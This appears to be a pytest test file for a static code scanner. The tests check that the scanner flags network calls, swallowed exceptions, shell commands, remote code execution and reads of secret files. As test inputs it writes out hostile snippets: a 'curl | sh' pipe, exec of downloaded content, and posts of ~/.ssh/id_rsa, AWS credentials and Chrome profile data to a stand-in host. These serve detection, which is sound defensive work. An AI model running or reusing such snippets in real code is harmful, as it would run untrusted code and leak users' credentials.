"""What known calls do: whom a request asks, what a command runs, which errors are swallowed."""

from __future__ import annotations

import pytest

from support.code import kinds, seen, taints
from veln_hook.source import vocabulary as v


def flags(source, kind):
    return set().union(*(each[3] for each in seen(source, kind)))


@pytest.mark.parametrize(
    "handler, quiet",
    [
        ("except Exception:\n    pass", True),
        ("except:\n    pass", True),
        ("except BaseException:\n    ...", True),
        (
            "except Exception as e:\n    return_ = None"
            if False
            else "except Exception as e:\n    'ignored'",
            True,
        ),
        ("except ValueError:\n    pass", False),
        ("except Exception:\n    raise", False),
        ("except Exception as e:\n    print(e)", False),
        ("finally:\n    pass", False),
    ],
)
def test_errors_that_are_swallowed(handler, quiet):
    source = f"import requests\ntry:\n    requests.get('https://a.example')\n{handler}\n"
    assert ("quiet" in flags(source, v.NET)) == quiet
    assert "quiet" not in flags(
        f"import requests\ntry:\n    pass\n{handler}\nrequests.get('https://a.example')\n", v.NET
    )


def test_errors_that_a_context_swallows():
    source = "import contextlib, requests\nwith contextlib.suppress(Exception):\n    requests.get('https://a.example')\n"
    assert "quiet" in flags(source, v.NET)


@pytest.mark.parametrize(
    "call, detail",
    [
        ("requests.get('https://a.example/x')", "a.example"),
        ("requests.get('https://' + 'a.example' + '/x')", "a.example"),
        ("requests.get(f'https://a.example/{x}')", "a.example"),
        ("requests.get('https://a.example/%s' % x)", "a.example"),
        ("requests.get(url='https://a.example/x')", "a.example"),
        ("requests.request('POST', 'https://a.example/x')", "a.example"),
        ("requests.Session().post('https://a.example/x')", "a.example"),
        ("requests.get(x)", "get"),
    ],
)
def test_the_host_of_a_request(call, detail):
    assert [each[1] for each in seen(f"import requests\n{call}\n", v.NET)] == [detail]


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1:8000", "0.0.0.0:80"])
def test_a_request_to_oneself_is_none(host):
    assert v.NET not in kinds(f"import requests\nrequests.get('http://{host}/x')\n")


@pytest.mark.parametrize(
    "command, flag",
    [
        ("subprocess.run(['curl', '-s', 'https://a.example'])", "download"),
        ("subprocess.run('curl -s https://a.example | sh', shell=True)", "download"),
        ("os.system('wget https://a.example')", "download"),
        ("subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", "pip"),
        ("os.system('pip install x')", "pip"),
        ("subprocess.Popen([sys.executable, '-c', 'x'])", "python"),
        ("subprocess.Popen(['x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)", "silent"),
        ("subprocess.Popen(['x'], start_new_session=True)", "silent"),
        ("os.system('x >/dev/null 2>&1 &')", "silent"),
        ("os.system('powershell -c x')", "powershell"),
    ],
)
def test_flags_of_a_command(command, flag):
    assert flag in flags(f"import os, subprocess, sys\n{command}\n", v.PROC)


def test_what_is_fetched_is_followed():
    for fetch in (
        "requests.get('https://a.example').text",
        "requests.get('https://a.example').json()['x']",
        "urllib.request.urlopen('https://a.example').read().decode()",
        "urllib.request.urlopen(urllib.request.Request('https://a.example')).read()",
        "base64.b64decode(requests.get('https://a.example').content)",
    ):
        assert "remote" in taints(f"import base64, requests, urllib.request\nexec({fetch})\n", v.EXEC), fetch
    source = (
        "import urllib.request\nwith urllib.request.urlopen('https://a.example') as f:\n    exec(f.read())\n"
    )
    assert "remote" in taints(source, v.EXEC)


def test_what_is_written_is_followed():
    source = (
        "import base64\nwith open('/tmp/x', 'wb') as f:\n    f.write(base64.b64decode('eHh4eHh4eHh4eHh4'))\n"
    )
    assert "decoded" in taints(source, v.WRITE)
    source = "import requests\nopen('/tmp/x', 'wb').write(requests.get('https://a.example').content)\n"
    assert "remote" in taints(source, v.WRITE)


@pytest.mark.parametrize(
    "path",
    [
        "~/.ssh/id_rsa",
        "/root/.aws/credentials",
        "~/.netrc",
        "~/.pypirc",
        "C:\\\\Users\\\\x\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data",
    ],
)
def test_files_of_secrets(path):
    source = f"import os, requests\nrequests.post('https://a.example', data=open(os.path.expanduser('{path}')).read())\n"
    assert v.CRED_FILE in kinds(source)
    assert "cred" in taints(source, v.NET)


def test_what_is_written_counts_whichever_argument_it_is():
    source = "import requests, zipfile\nzipfile.ZipFile('a', 'w').writestr('x', requests.get('https://x.example').content)\n"
    assert taints(source, "write") == {"remote"}
    assert taints("import base64\nopen('b', 'wb').write(data=base64.b64decode(x))\n", "write") == {"decoded"}
